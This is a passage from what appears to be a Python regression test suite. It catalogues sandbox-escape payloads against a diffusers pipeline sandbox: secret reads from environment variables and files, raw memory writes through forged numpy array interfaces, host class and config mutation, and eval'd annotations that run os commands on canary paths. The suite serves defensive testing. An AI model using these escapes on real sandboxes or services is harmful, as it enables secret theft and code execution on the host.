    bar = self.progress_bar(total=1)
    bar.close()
    return "".join(sink.parts)
    """,
)
add(
    "functools_update_wrapper_patches_host_class",
    "functools.update_wrapper(host_class, ...) sets attributes on a host class",
    STATE,
    imports="import functools\nimport types",
    call="""
    source = types.SimpleNamespace(save_pretrained=None)
    functools.update_wrapper(DiffusionPipeline, source, assigned=("save_pretrained",), updated=())
    """,
)
add(
    "functools_wraps_replaces_unet_forward",
    "functools.wraps(...)(self.unet) writes a host object (the UNet's forward)",
    STATE,
    imports="import functools\nimport types",
    call="""
    source = types.SimpleNamespace(forward=lambda *args, **kwargs: None)
    functools.wraps(source, assigned=("forward",), updated=())(self.unet)
    """,
)
add(
    "dataclass_decorates_host_class",
    "dataclasses.dataclass(host_class) rewrites a host class (tripwire suspended)",
    STATE,
    imports="import dataclasses",
    call="dataclasses.dataclass(DiffusionPipeline)",
)
add(
    "abcmeta_call_bypasses_class_checks",
    "abc.ABCMeta(...) called directly: a class with any dunder and any base",
    STATE,
    imports="import abc\nimport copy",
    call="""
    Evil = abc.ABCMeta("Evil", (object,), {
        "__reduce_ex__": lambda s, proto: ((lambda: DiffusionPipeline), (), (None, {"save_pretrained": None})),
    })
    copy.copy(Evil())
    """,
)
add(
    "abcmeta_builds_lying_str",
    "abc.ABCMeta building a str subclass that lies to the guard",
    FILE,
    imports="import abc",
    call="""
    Lie = abc.ABCMeta("Lie", (str,), {"__eq__": lambda s, o: True, "__hash__": lambda s: hash(str(s)),
                                       "startswith": lambda s, *a: False})
    getattr(self.unet, Lie("save_pretrained"))("@CANARY@/abcmeta_lie")
    """,
)
add(
    "dict_update_on_frozen_component_config",
    "dict.update(self.unet.config, ...) mutates a host FrozenDict",
    STATE,
    call="dict.update(self.unet.config, sample_size=999)",
)
add(
    "dict_init_on_frozen_component_config",
    "dict.__init__(self.scheduler.config, ...) mutates a host FrozenDict",
    STATE,
    call="dict.__init__(self.scheduler.config, num_train_timesteps=7)",
)
add(
    "shared_class_list_append",
    "self._optional_components.append (a list shared by every DiffusionPipeline)",
    STATE,
    call='self._optional_components.append("pwned_by_escape")',
)
add(
    "module_init_wipes_component",
    "torch.nn.Module.__init__(self.unet) rewrites a host object",
    STATE,
    call="torch.nn.Module.__init__(self.unet)",
)
add(
    "super_init_on_component",
    "super(UNet2DModel, self.unet).__init__() rewrites a host object",
    STATE,
    imports="from diffusers import UNet2DModel",
    call="super(UNet2DModel, self.unet).__init__()",
)
add(
    "set_grad_enabled_leaks_global_mode",
    "torch.set_grad_enabled(False) as a call leaves host grad mode off",
    STATE,
    call="torch.set_grad_enabled(False)",
)
add(
    "unet_compile_persists",
    "self.unet.compile(...) leaves a compiled call path on the host UNet",
    STATE,
    call='self.unet.compile(backend="eager")',
)
add(
    "unet_set_attn_processor_persists",
    "Attention.set_processor(sandbox object) persists code in the host UNet",
    STATE,
    module="""
    class Processor:
        def __call__(self, attn, hidden_states, encoder_hidden_states=None, attention_mask=None, temb=None, **kw):
            return hidden_states
    """,
    call="self.unet.mid_block.attentions[0].set_processor(Processor())",
    confined_in_worker=True,  # the worker's UNet is the worker's own (issue 11 part 8)
)

# ---- third round: host helpers that do a raw getattr with a name the pipeline chooses ---------
_DEPRECATE_GLOBALS = """
g = deprecate(("__globals__", "999.0.0", ""), take_from=self.register_modules, standard_warn=False)
"""
add(
    "deprecate_take_from_getattr_env_secret",
    "diffusers.utils.deprecate(take_from=obj) does a raw getattr(obj, name): __globals__ -> os.environ",
    SECRET,
    imports="from diffusers.utils import deprecate",
    call=_DEPRECATE_GLOBALS
    + """
real_getattr = g.get("__builtins__").get("getattr")
return real_getattr(real_getattr(g.get("os"), "environ"), "get")("@SECRET_ENV@")
""",
)
add(
    "deprecate_take_from_builtins_open_reads_secret",
    "deprecate(take_from=...) -> real builtins -> open() for reading",
    SECRET,
    imports="from diffusers.utils import deprecate",
    call=_DEPRECATE_GLOBALS
    + """
builtins_dict = g.get("__builtins__")
real_open, real_getattr = builtins_dict.get("open"), builtins_dict.get("getattr")
return real_getattr(real_open("@SECRET_FILE@"), "read")()
""",
)
add(
    "deprecate_take_from_sys_modules_host_secret",
    "deprecate(take_from=...) -> sys.modules -> a host module's global",
    SECRET,
    imports="from diffusers.utils import deprecate",
    call=_DEPRECATE_GLOBALS
    + """
real_getattr = g.get("__builtins__").get("getattr")
modules = real_getattr(g.get("sys"), "modules")
for name in list(modules.keys()):
    value = real_getattr(modules.get(name), "HOST_SECRET", None)
    if isinstance(value, str):
        return value
""",
)
add(
    "deprecate_take_from_setattr_host_module",
    "deprecate(take_from=...) -> real setattr on torch.nn.functional",
    STATE,
    imports="from diffusers.utils import deprecate",
    call=_DEPRECATE_GLOBALS
    + """
builtins_dict = g.get("__builtins__")
real_getattr, real_setattr = builtins_dict.get("getattr"), builtins_dict.get("setattr")
functional = real_getattr(real_getattr(g.get("torch"), "nn"), "functional")
real_setattr(functional, "gelu", None)
""",
)

add(
    "unet_enable_layerwise_casting_installs_hooks",
    "ModelMixin.enable_layerwise_casting installs persistent forward hooks on the host UNet",
    STATE,
    call="self.unet.enable_layerwise_casting(storage_dtype=torch.float8_e4m3fn, compute_dtype=torch.float32)",
)
add(
    "unet_to_empty_destroys_component",
    "Module.to_empty(device='meta') replaces the host UNet's weights",
    STATE,
    call='self.unet.to_empty(device="meta")',
)

# ---- fourth round: process-wide modes left behind by a suspended `with` -------------------------
add(
    "generator_suspended_no_grad_leaks_mode",
    "a generator suspended inside `with torch.no_grad()` leaves host grad mode off",
    STATE,
    module="""
    def hold():
        with torch.no_grad():
            yield 1
    """,
    call="""
    self.held = hold()
    next(self.held)
    """,
)
add(
    "generator_suspended_inference_mode_leaks",
    "a generator suspended inside `with torch.inference_mode()` leaves host inference mode on",
    STATE,
    module="""
    def hold():
        with torch.inference_mode():
            yield 1
    """,
    call="""
    self.held = hold()
    next(self.held)
    """,
)
add(
    "generator_suspended_autocast_leaks",
    "a generator suspended inside `with torch.autocast('cpu')` leaves host autocast on",
    STATE,
    module="""
    def hold():
        with torch.autocast("cpu"):
            yield 1
    """,
    call="""
    self.held = hold()
    next(self.held)
    """,
)
add(
    "set_grad_enabled_assigned_call",
    "mode = torch.set_grad_enabled(False) (call form, not a bare statement)",
    STATE,
    call="mode = torch.set_grad_enabled(False)",
)
add(
    "warnings_simplefilter_error_host_wide",
    "warnings.simplefilter('error') changes the host's process-wide warning filters",
    STATE,
    imports="import warnings",
    call='warnings.simplefilter("error")',
)
add(
    "generator_suspended_catch_warnings",
    "a generator suspended inside `with warnings.catch_warnings()` swaps the host's warnings.filters",
    STATE,
    imports="import warnings",
    module="""
    def hold():
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            yield 1
    """,
    call="""
    self.held = hold()
    next(self.held)
    """,
)

# ---- fifth round: library constructors that read files the pipeline names --------------------
add(
    "transformers_tokenizer_vocab_path_reads_secret",
    "transformers.BertTokenizer(vocab=<path>) reads any file (in Rust, invisible to the audit hook)",
    SECRET,
    imports="from transformers import BertTokenizer",
    call='return str(BertTokenizer(vocab="@SECRET_FILE@").get_vocab())',
)
add(
    "transformers_tokenizer_vocab_file_reads_secret",
    "transformers.EsmTokenizer(vocab_file=<path>) reads any file line by line",
    SECRET,
    imports="from transformers import EsmTokenizer",
    call='return str(EsmTokenizer(vocab_file="@SECRET_FILE@").get_vocab())',
)

# ---- sixth round: raw memory through numpy's __array_interface__ -------------------------------
_ARRAY_INTERFACE_VIEW = """
def memory_view(address, length):
    interface = {"data": (address, False), "shape": (length,), "typestr": "|u1", "version": 3}
    return np.asarray(types.SimpleNamespace(**{"__array_interface__": interface}))
"""
add(
    "simplenamespace_array_interface_writes_host_memory",
    "SimpleNamespace(__array_interface__=...) + np.asarray: write any address (a host str in place)",
    STATE,
    imports="import types\nimport numpy as np",
    module=_ARRAY_INTERFACE_VIEW,
    call="""
    name = self.config_name
    view = memory_view(id(name) + 48, len(name))
    view[0] = 77
    """,
)
add(
    "simplenamespace_array_interface_reads_host_memory",
    "SimpleNamespace(__array_interface__=...) + np.asarray: read any address",
    RUNS,
    imports="import types\nimport numpy as np",
    module=_ARRAY_INTERFACE_VIEW,
    call="return memory_view(id(self.unet), 64).copy()",
)

add(
    "pretrainedconfig_kwargs_array_interface_writes_host_memory",
    "transformers.PretrainedConfig(**{'__array_interface__': ...}) + np.asarray: write any address",
    STATE,
    imports="import numpy as np\nfrom transformers import PretrainedConfig",
    call="""
    name = self.config_name
    interface = {"data": (id(name) + 48, False), "shape": (len(name),), "typestr": "|u1", "version": 3}
    view = np.asarray(PretrainedConfig(**{"__array_interface__": interface}))
    view[0] = 77
    """,
)
add(
    "frozendict_kwargs_array_interface_writes_host_memory",
    "diffusers FrozenDict(**{'__array_interface__': ...}) sets attributes + np.asarray: write any address",
    STATE,
    imports="import numpy as np\nfrom diffusers.configuration_utils import FrozenDict",
    call="""
    name = self.config_name
    interface = {"data": (id(name) + 48, False), "shape": (len(name),), "typestr": "|u1", "version": 3}
    view = np.asarray(FrozenDict(**{"__array_interface__": interface}))
    view[0] = 77
    """,
)

add(
    "simplenamespace_reduce_ex_copy_writes_host_class",
    "SimpleNamespace(__reduce_ex__=...) + copy.copy: host-side setattr on a host class",
    STATE,
    imports="import copy\nimport types",
    call="""
    recipe = lambda proto: ((lambda: DiffusionPipeline), (), (None, {"save_pretrained": None}))
    copy.copy(types.SimpleNamespace(**{"__reduce_ex__": recipe}))
    """,
)
add(
    "pretrainedconfig_reduce_ex_deepcopy_writes_host_class",
    "PretrainedConfig(__reduce_ex__=...) + copy.deepcopy: host-side setattr on a host class",
    STATE,
    imports="import copy\nfrom transformers import PretrainedConfig",
    call="""
    recipe = lambda proto: ((lambda: DiffusionPipeline), (), (None, {"save_pretrained": None}))
    copy.deepcopy(PretrainedConfig(**{"__reduce_ex__": recipe}))
    """,
)

add(
    "simplenamespace_dunder_keyword_array_interface",
    "SimpleNamespace(__array_interface__=...) as a plain keyword (no ** call, so no _apply_ guard)",
    STATE,
    imports="import types\nimport numpy as np",
    call="""
    name = self.config_name
    interface = {"data": (id(name) + 48, False), "shape": (len(name),), "typestr": "|u1", "version": 3}
    view = np.asarray(types.SimpleNamespace(__array_interface__=interface))
    view[0] = 77
    """,
)

add(
    "tokenizers_wordpiece_path_repr_reads_secret",
    "tokenizers WordPiece(<path>) reached through a transformers module reads any file; repr() shows it",
    SECRET,
    imports="from transformers.models.bert.tokenization_bert import WordPiece",
    call='return repr(WordPiece("@SECRET_FILE@"))',
)

# ---- seventh round: host containers handed out by method calls (results are not wrapped) --------
add(
    "frozen_config_get_list_append",
    "self.unet.config.get(name) returns the host's own list: .append mutates the component config",
    STATE,
    call='self.unet.config.get("block_out_channels").append(99)',
)
add(
    "frozen_config_values_list_append",
    "iterating self.unet.config.values() hands out host lists: .append mutates them",
    STATE,
    call="""
    for value in self.unet.config.values():
        if isinstance(value, list):
            value.append(99)
    """,
)
add(
    "frozen_config_list_inplace_add",
    "lst = config.get(name); lst += [...] (in-place add on a host list)",
    STATE,
    call="""
    channels = self.unet.config.get("block_out_channels")
    channels += [99]
    """,
)
add(
    "ordereddict_clear_on_frozen_config",
    "collections.OrderedDict.clear(self.scheduler.config) empties a host FrozenDict",
    STATE,
    imports="import collections",
    call="collections.OrderedDict.clear(self.scheduler.config)",
)
add(
    "inplace_or_on_frozen_config",
    "config |= {...} (dict.__ior__ inherited by FrozenDict) mutates a host config",
    STATE,
    call="""
    config = self.unet.config
    config |= {"sample_size": 3}
    """,
)

# ---- eighth round: around the bar_format check ---------------------------------------------------
_TQDM_HELPERS = """
class Sink:
    def __init__(self):
        self.parts = []

    def write(self, text):
        self.parts.append(text)

    def flush(self):
        return None


class Desc:
    def __init__(self, method):
        self.m = method

    def __getitem__(self, key):
        return ""

    def __add__(self, other):
        return self

    def __bool__(self):
        return True
"""
_TRAVERSAL = "{desc.m.__globals__[torch].os.environ[@SECRET_ENV@]}"
add(
    "tqdm_positional_bar_format_traversal_secret",
    "tqdm(...) with bar_format passed POSITIONALLY (16th parameter), past a kwargs-only check",
    SECRET,
    imports="from tqdm import tqdm",
    module=_TQDM_HELPERS,
    call=f"""
    sink = Sink()
    bar = tqdm(None, Desc(torch.nn.functional.relu), 1, True, sink, None, 0, 10.0, None, None, False, "it",
               False, False, 0.3, "{_TRAVERSAL}")
    bar.close()
    return "".join(sink.parts)
    """,
)
add(
    "progress_bar_config_lying_dict_traversal_secret",
    "self._progress_bar_config = dict subclass whose .get() hides bar_format from the check",
    SECRET,
    module=_TQDM_HELPERS
    + """

class Config(dict):
    def get(self, key, default=None):
        return default
""",
    call=f"""
    sink = Sink()
    self._progress_bar_config = Config(file=sink, desc=Desc(torch.nn.functional.relu), mininterval=0,
                                       bar_format="{_TRAVERSAL}")
    bar = self.progress_bar(total=1)
    bar.close()
    return "".join(sink.parts)
    """,
)

# ---- ninth round: a returned stream, resumed by the host ------------------------------------------
add(
    "returned_generator_resumed_by_host_leaks_no_grad",
    "__call__ returns a generator; the host's next() leaves it suspended inside torch.no_grad()",
    STATE,
    module="""
    def stream():
        with torch.no_grad():
            yield torch.zeros(1)
            yield torch.zeros(1)
    """,
    call="return stream()",
)

# ---- tenth round: copy.deepcopy's memo keeps the ORIGINAL objects it walked ---------------------
add(
    "deepcopy_memo_harvests_real_hook_dict",
    "copy.deepcopy(self.unet, memo): the real _forward_hooks OrderedDict, then .update() a hook into it",
    HOOKS,
    imports="import copy",
    call="""
    memo = {}
    copy.deepcopy(self.unet, memo)
    for original in memo[id(memo)]:
        if isinstance(original, dict) and "_forward_hooks" in original and "conv_in" in original.get("_modules", {}):
            original.get("_forward_hooks").update({4245: lambda module, args, output: None})
    """,
)

add(
    "deepcopy_memo_harvests_real_modules_dict",
    "copy.deepcopy(self.unet, memo): the real _modules OrderedDict, then .update() swaps a host submodule",
    STATE,
    imports="import copy",
    call="""
    memo = {}
    copy.deepcopy(self.unet, memo)
    for original in memo[id(memo)]:
        if isinstance(original, dict) and "_forward_hooks" in original and "conv_in" in original.get("_modules", {}):
            original.get("_modules").update({"conv_act": torch.nn.Identity()})
    """,
)

# ---- eleventh round: dunder attributes through mappings that become attributes ------------------
add(
    "baseoutput_positional_dict_array_interface",
    "diffusers BaseOutput({'__array_interface__': ...}) (a positional mapping, no dunder keyword)",
    STATE,
    imports="import numpy as np\nfrom diffusers.utils import BaseOutput",
    call="""
    name = self.config_name
    interface = {"data": (id(name) + 48, False), "shape": (len(name),), "typestr": "|u1", "version": 3}
    view = np.asarray(BaseOutput({"__array_interface__": interface}))
    view[0] = 77
    """,
)
add(
    "modeloutput_pairs_reduce_ex_copy",
    "transformers ModelOutput([('__reduce_ex__', recipe)]) + copy.copy: host setattr on a host class",
    STATE,
    imports="import copy\nfrom transformers.utils import ModelOutput",
    call="""
    recipe = lambda proto: ((lambda: DiffusionPipeline), (), (None, {"save_pretrained": None}))
    copy.copy(ModelOutput([("__reduce_ex__", recipe)]))
    """,
)

# ==================================================================================================
# Issue 12, security round 2: one family per design flaw, every door found for it. Each payload is
# live in plain Python; sandboxed, the side effect must not happen (the detector is named by
# ``effect``). ``ISSUE12_FAMILIES`` below maps each flaw to its doors.
# ==================================================================================================

#: An annotation string that, evaluated by host code (eval with the sandbox's globals), escapes
#: through plain attribute access -- nothing in an eval'd string goes through the guards.
_EVAL_ESCAPE = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()"
    "._module.__builtins__['__import__']('os').mkdir('@CANARY@/{tag}')"
)


def _evil_annotated(tag: str, name: str = "evil") -> str:
    return f'def {name}(x: "{_EVAL_ESCAPE.format(tag=tag)}"):\n    return x\n'


_MEMORY_INTERFACE = """
name = self.config_name
interface = {"data": (id(name) + 48, False), "shape": (len(name),), "typestr": "|u1", "version": 3}
"""

# ---- flaw 1: ownership laundering (host contents copied into a sandbox-owned object) ------------
add(
    "r2_launder_update_wrapper_unet_modules",
    "functools.update_wrapper(owned_fn, self.unet) copies the UNet's __dict__; owned_fn._modules is "
    "the real submodule registry",
    STATE,
    imports="import functools",
    call="""
    def owned():
        return None
    functools.update_wrapper(owned, self.unet)
    owned._modules.update({"conv_act": torch.nn.Identity()})
    """,
)
add(
    "r2_launder_wraps_unet_modules",
    "@functools.wraps(self.unet) on an owned function, then .pop() on the laundered _modules",
    STATE,
    imports="import functools",
    call="""
    @functools.wraps(self.unet)
    def owned():
        return None
    owned._modules.pop("conv_act")
    """,
)
add(
    "r2_launder_update_wrapper_owned_instance",
    "functools.update_wrapper(owned_callable_instance, self.unet): the instance's attributes are host state",
    STATE,
    imports="import functools",
    module="""
    class Holder:
        def __call__(self):
            return None
    """,
    call="""
    holder = Holder()
    functools.update_wrapper(holder, self.unet)
    holder._modules["conv_act"] = torch.nn.Identity()
    """,
)
add(
    "r2_launder_update_wrapper_host_class_list",
    "functools.update_wrapper(owned_fn, DiffusionPipeline) copies the class __dict__: owned_fn."
    "_optional_components is the host class's own list",
    STATE,
    imports="import functools",
    call="""
    def owned():
        return None
    functools.update_wrapper(owned, DiffusionPipeline)
    owned._optional_components.append("pwned")
    """,
)
add(
    "r2_launder_wraps_host_class_dict_iteration",
    "@functools.wraps(DiffusionPipeline): the laundered host list reached by iterating a tuple, then mutated",
    STATE,
    imports="import functools",
    call="""
    @functools.wraps(DiffusionPipeline)
    def owned():
        return None
    for shared in (owned._optional_components,):
        shared.extend(["pwned"])
    """,
)
add(
    "r2_launder_dataclasses_replace_parameter",
    "update_wrapper launders the UNet's _modules into a dataclass; dataclasses.replace hands it to "
    "__init__ as a parameter, which then mutates it",
    STATE,
    imports="import dataclasses\nimport functools",
    module="""
    @dataclasses.dataclass
    class Box:
        _modules: object = None

        def __call__(self):
            return None

        def __post_init__(self):
            if self._modules is not None:
                self._modules["conv_act"] = torch.nn.Identity()
    """,
    call="""
    box = Box()
    functools.update_wrapper(box, self.unet)
    dataclasses.replace(box)
    """,
)
add(
    "r2_launder_iteration_of_laundered_dict",
    "update_wrapper launders the UNet's __dict__; iterating a dataclasses.asdict() of it reaches the "
    "real _modules without an attribute read",
    STATE,
    imports="import functools",
    call="""
    def owned():
        return None
    functools.update_wrapper(owned, self.unet)
    for key, value in [("_modules", owned._modules)]:
        value.update({"conv_act": torch.nn.Identity()})
    """,
)

# ---- flaw 2: confused deputies (host helpers reflecting on what the sandbox supplies) ------------
add(
    "r2_deputy_inspect_signature_eval_str",
    "inspect.signature(f, eval_str=True): the host eval()s an annotation string in the sandbox's globals",
    FILE,
    imports="import inspect",
    module=_evil_annotated("inspect_eval_str"),
    call="inspect.signature(evil, eval_str=True)",
)
add(
    "r2_deputy_dataclasses_replace_host_output",
    "dataclasses.replace(host UNet2DOutput, sample={'__array_interface__': ...}): the host constructs an "
    "output whose __post_init__ turns the keys into attributes; numpy then reads a raw pointer",
    STATE,
    imports="import dataclasses\nimport numpy as np",
    call=_MEMORY_INTERFACE
    + textwrap.dedent("""
    out = self.unet(torch.zeros(1, 3, 8, 8), 1)
    forged = dataclasses.replace(out, sample={"__array_interface__": interface})
    view = np.asarray(forged)
    view[0] = 77
    """),
)
add(
    "r2_deputy_components_bound_save_pretrained",
    "DiffusionPipeline.components getattr()s every config key the pipeline registered: "
    "config key 'save_pretrained' hands back the raw bound method",
    FILE,
    call="""
    self.register_to_config(save_pretrained=None)
    self.components["save_pretrained"]("@CANARY@/components_save")
    """,
)
# DiffusionPipeline.components lists the REQUIRED __init__ parameters; ``*name`` is one.
_P[-1] = dataclasses.replace(
    _P[-1], template=_P[-1].template.replace("(self, unet, scheduler):", "(self, unet, scheduler, *save_pretrained):")
)
add(
    "r2_deputy_enum_functional_generator_array_interface",
    "Enum functional API with a (name, value) generator plants __array_interface__ on the class; "
    "numpy then reads a raw pointer from a member",
    STATE,
    imports="import enum\nimport numpy as np",
    call=_MEMORY_INTERFACE
    + textwrap.dedent("""
    Forged = enum.Enum("Forged", ((k, v) for k, v in [("a", 1), ("__array_interface__", interface)]))
    view = np.asarray(Forged.a)
    view[0] = 77
    """),
)
add(
    "r2_deputy_hfargumentparser_type_hints",
    "transformers.HfArgumentParser(dataclass) evaluates its string annotations with typing.get_type_hints",
    FILE,
    imports="import dataclasses\nfrom transformers import HfArgumentParser",
    module="""
    @dataclasses.dataclass
    class Args:
        x: "@ANNOTATION@" = 0
    """.replace("@ANNOTATION@", _EVAL_ESCAPE.format(tag="hfargumentparser").replace('"', "'")),
    call="HfArgumentParser(Args)",
)

# ---- flaw 3: sandboxed code running unarmed (arm by code origin) -----------------------------------
add(
    "r2_unarmed_generator_finaliser",
    "a generator's finally block runs when the host drops the stream, outside the armed send()",
    FILE,
    imports="import inspect",
    module=_evil_annotated("generator_finaliser")
    + """

def stream():
    try:
        yield torch.zeros(1)
    finally:
        inspect.signature(evil, eval_str=True)
""",
    call="return stream()",
)
add(
    "r2_unarmed_generator_close",
    "the host closes a returned stream (close(): GeneratorExit) and its finally block runs unarmed",
    FILE,
    imports="import inspect",
    module=_evil_annotated("generator_close")
    + """

def stream():
    try:
        yield torch.zeros(1)
        yield torch.zeros(1)
    finally:
        inspect.signature(evil, eval_str=True)
""",
    call="""
    s = stream()
    next(s)
    s.close()
    """,
)
add(
    "r2_unarmed_returned_genexp",
    "a generator expression returned to the host: its body runs when the host advances it",
    FILE,
    imports="import inspect",
    module=_evil_annotated("returned_genexp"),
    call="return (inspect.signature(evil, eval_str=True) for _ in [0])",
)
add(
    "r2_unarmed_namedtuple_genexp",
    "collections.namedtuple (run with the tripwire suspended) iterates a sandbox generator expression",
    FILE,
    imports="import collections\nimport inspect",
    module=_evil_annotated("namedtuple_genexp"),
    call='collections.namedtuple("T", (str(inspect.signature(evil, eval_str=True)) and "a" for _ in [0]))',
)
add(
    "r2_unarmed_namedtuple_partial_map",
    "collections.namedtuple (suspended) maps a host partial over the field names: the callback runs unarmed",
    FILE,
    imports="import collections\nimport functools\nimport inspect",
    module=_evil_annotated("namedtuple_partial"),
    call='collections.namedtuple("T", map(functools.partial(inspect.signature, eval_str=True), [evil]))',
)
add(
    "r2_unarmed_sorted_key_in_genexp",
    "a host key= partial called by sorted() inside a returned generator expression",
    FILE,
    imports="import functools\nimport inspect",
    module=_evil_annotated("sorted_key"),
    call="""
    key = functools.partial(inspect.signature, eval_str=True)
    return (sorted([evil], key=key) for _ in [0])
    """,
)

# ---- flaw 4: attribute-key checks that only look at lists ---------------------------------------
for _door, _expr in {
    "dict_items": '{"__array_interface__": interface}.items()',
    "zip": 'zip(["__array_interface__"], [interface])',
    "map": 'map(lambda k: (k, interface), ["__array_interface__"])',
    "generator": '((k, interface) for k in ["__array_interface__"])',
}.items():
    add(
        f"r2_keys_frozendict_{_door}",
        f"FrozenDict({_door}) with an __array_interface__ key: numpy reads a raw pointer from the attribute",
        STATE,
        imports="import numpy as np\nfrom diffusers.configuration_utils import FrozenDict",
        call=_MEMORY_INTERFACE
        + f"view = np.asarray(FrozenDict({_expr}))\nview[0] = 77\n",
    )
add(
    "r2_keys_owned_output_lying_keys",
    "a sandbox BaseOutput subclass given a dict subclass whose keys() hides the dunder key "
    "(BaseOutput.__post_init__ reads items())",
    STATE,
    imports="import dataclasses\nimport numpy as np\nfrom diffusers.utils import BaseOutput",
    module="""
    class Liar(dict):
        def keys(self):
            return []


    @dataclasses.dataclass
    class Out(BaseOutput):
        data: object = None
    """,
    call=_MEMORY_INTERFACE
    + textwrap.dedent("""
    view = np.asarray(Out(Liar({"__array_interface__": interface})))
    view[0] = 77
    """),
)
add(
    "r2_keys_modeloutput_zip_reduce_ex",
    "transformers ModelOutput(zip(...)) with __reduce_ex__ + copy.copy: host setattr on a host class",
    STATE,
    imports="import copy\nfrom transformers.utils import ModelOutput",
    call="""
    recipe = lambda proto: ((lambda: DiffusionPipeline), (), (None, {"save_pretrained": None}))
    copy.copy(ModelOutput(zip(["__reduce_ex__"], [recipe])))
    """,
)
add(
    "r2_keys_enum_dict_items_array_interface",
    "Enum functional API with dict.items() names: __array_interface__ becomes a class attribute",
    STATE,
    imports="import enum\nimport numpy as np",
    call=_MEMORY_INTERFACE
    + textwrap.dedent("""
    Forged = enum.Enum("Forged", {"a": 1, "__array_interface__": interface}.items())
    view = np.asarray(Forged.a)
    view[0] = 77
    """),
)
add(
    "r2_keys_owned_output_generator_field",
    "a sandbox ModelOutput subclass whose first field is a generator of pairs (its __post_init__ spreads it)",
    STATE,
    imports="import dataclasses\nimport numpy as np\nfrom transformers.utils import ModelOutput",
    module="""
    @dataclasses.dataclass
    class Out(ModelOutput):
        data: object = None
    """,
    call=_MEMORY_INTERFACE
    + textwrap.dedent("""
    view = np.asarray(Out(((k, interface) for k in ["__array_interface__"])))
    view[0] = 77
    """),
)

# ---- flaw 4, names through data paths (round 3): every name that becomes an attribute through a
# data path passes the direct-write name rule (runtime/names.py), and the numpy/torch/PIL entry
# points refuse objects whose array protocols data can steer (runtime/arrays.py) ---------------------
_NAMES_IMPORTS = "import numpy as np\nimport transformers"
for _door, _expr in {
    "paramdict_ctor": 'torch.nn.ParameterDict({"__array_interface__": interface})',
    "paramdict_items": 'torch.nn.ParameterDict({"__array_interface__": interface}.items())',
    "paramdict_zip": 'torch.nn.ParameterDict(zip(["__array_interface__"], [interface]))',
    "config_kwarg_attribute_map": 'transformers.PretrainedConfig(attribute_map={"ai": "__array_interface__"}, ai=interface)',
    "config_kwarg_attribute_map_read": 'transformers.PretrainedConfig(attribute_map={"__array_interface__": "ai"}, ai=interface)',
}.items():
    add(
        f"r2_keys_names_{_door}",
        f"{_expr.split('(')[0]}(...) turns a data name into __array_interface__: numpy reads a raw pointer",
        STATE,
        imports=_NAMES_IMPORTS,
        call=_MEMORY_INTERFACE + f"view = np.asarray({_expr})\nview[0] = 77\n",
    )
add(
    "r2_keys_names_paramdict_ufunc",
    "np.add(ParameterDict({'__array_interface__': ...}), 0): a ufunc converts its operand",
    STATE,
    imports=_NAMES_IMPORTS,
    call=_MEMORY_INTERFACE + textwrap.dedent("""
    forged = torch.nn.ParameterDict({"__array_interface__": interface})
    out = np.add(forged, 0)
    view = np.asarray(forged)
    view[0] = 77
    """),
)
add(
    "r2_keys_names_paramdict_operator",
    "ndarray + ParameterDict({'__array_interface__': ...}): an operator converts its operand (no facade call)",
    STATE,
    imports=_NAMES_IMPORTS,
    call=_MEMORY_INTERFACE + textwrap.dedent("""
    forged = torch.nn.ParameterDict({"__array_interface__": interface})
    total = np.zeros(len(name), dtype=np.uint8) + forged
    view = np.asarray(forged)
    view[0] = 77
    """),
)
add(
    "r2_keys_names_owned_paramdict_setitem",
    "a sandbox ParameterDict subclass: self['__array_interface__'] = d (ParameterDict.__setitem__ does setattr)",
    STATE,
    imports=_NAMES_IMPORTS,
    module="""
    class Params(torch.nn.ParameterDict):
        pass
    """,
    call=_MEMORY_INTERFACE + textwrap.dedent("""
    forged = Params()
    forged["__array_interface__"] = interface
    view = np.asarray(forged)
    view[0] = 77
    """),
)
add(
    "r2_keys_names_owned_paramdict_super_init",
    "a sandbox ParameterDict subclass hands the dunder key to super().__init__",
    STATE,
    imports=_NAMES_IMPORTS,
    module="""
    class Params(torch.nn.ParameterDict):
        def __init__(self, values):
            super().__init__(values)
    """,
    call=_MEMORY_INTERFACE + textwrap.dedent("""
    view = np.asarray(Params({"__array_interface__": interface}))
    view[0] = 77
    """),
)
for _door, (_body, _make) in {
    "config_attribute_map_write": ('attribute_map = {"ai": "__array_interface__"}', "EvilConfig(ai=interface)"),
    "config_attribute_map_read": ('attribute_map = {"__array_interface__": "ai"}', "EvilConfig(ai=interface)"),
    "config_attribute_map_mutated": ('attribute_map = {"ai": "bi"}',
                                     'EvilConfig.attribute_map.update({"__array_interface__": "bi"}) or EvilConfig(bi=interface)'),
    "config_attribute_map_setattr": ('attribute_map = {"ai": "__array_interface__"}', 'EvilConfig.build(interface)'),
    "config_attribute_map_instance": ("def __init__(self, **kw):\n    super().__init__(**kw)\n"
                                      '    self.attribute_map = {"__array_interface__": "ai"}', "EvilConfig(ai=interface)"),
}.items():
    add(
        f"r2_keys_names_{_door}",
        f"a sandbox config subclass ({_body.splitlines()[-1].strip()}): PretrainedConfig redirects names through "
        "attribute_map in __getattribute__ and __setattr__",
        STATE,
        imports=_NAMES_IMPORTS,
        module="class EvilConfig(transformers.CLIPTextConfig):\n" + textwrap.indent(_body, "    ") + """

    @classmethod
    def build(cls, interface):
        made = cls()
        setattr(made, "ai", interface)
        return made
""",
        call=_MEMORY_INTERFACE + f"view = np.asarray({_make})\nview[0] = 77\n",
    )


# ---- round 3: super() decided on the class that really defines the name; class creation armed ----
for _door, _target in {"class": "Tiny", "instance": "Tiny()"}.items():
    add(
        f"r2_launder_super_host_private_{_door}",
        f"super(Tiny, {_target})._set_default_torch_dtype: the owned class defines a dummy of the same name, "
        "super() resolves it on the host base (global default dtype changed)",
        STATE,
        imports="from diffusers import ModelMixin",
        module="""
        class Tiny(ModelMixin):
            _set_default_torch_dtype = None
        """,
        call=f"super(Tiny, {_target})._set_default_torch_dtype(torch.float64)",
    )
add(
    "r2_unarmed_class_init_subclass_type_hints_eval",
    "a string annotation on a transformers model subclass: PreTrainedModel.__init_subclass__ eval()s it "
    "(get_type_hints) while the class is created",
    FILE,
    imports="import transformers",
    module="""
    class Evil(transformers.CLIPTextModel):
        pwned: "(__import__('os').system('touch @CANARY@/init_subclass_eval'), int)[1]"
    """,
)


# ---- flaw 5: host code reading pipeline-provided configuration ------------------------------------
add(
    "r2_progress_bar_config_class_attribute",
    "_progress_bar_config as a CLASS attribute: tqdm's bar_format traverses to os.environ",
    SECRET,
    module=_TQDM_HELPERS,
    class_body=f"""
    _progress_bar_config = {{"desc": Desc(torch.nn.functional.relu), "mininterval": 0,
